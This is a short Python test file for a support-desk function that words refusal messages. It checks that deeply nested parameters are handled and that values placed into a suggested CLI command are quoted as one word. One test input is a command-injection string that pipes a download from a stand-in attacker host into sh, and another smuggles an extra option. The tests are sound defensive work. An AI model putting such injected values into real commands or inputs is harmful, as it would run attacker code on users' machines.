"""Refusals in words: whatever their parameters hold."""

from supportdesk.i18n.refusals import sentence


def test_parameters_without_end_are_told() -> None:
    deep: list[object] = []
    for _ in range(900):
        deep = [deep]
    for held in (deep, [1, [2]], {"x": deep}, [None, ""]):
        assert sentence("stop.newer", {"count": held, "author": "Olga"}, interface="cli")


def test_a_parameter_is_one_word_of_the_command_that_helps() -> None:
    told = sentence("stop.merged", {"into": "5; curl evil.example|sh"}, interface="cli")
    assert told.endswith("show '5; curl evil.example|sh'")
    told = sentence("stop.merged", {"into": "5 --store /tmp/x"}, interface="cli")
    assert told.endswith("show '5 --store /tmp/x'")
    assert sentence("stop.merged", {"into": 5}, interface="cli").endswith("show 5")
    assert sentence("stop.merged", {"into": "new-3"}, interface="cli").endswith("show new-3")
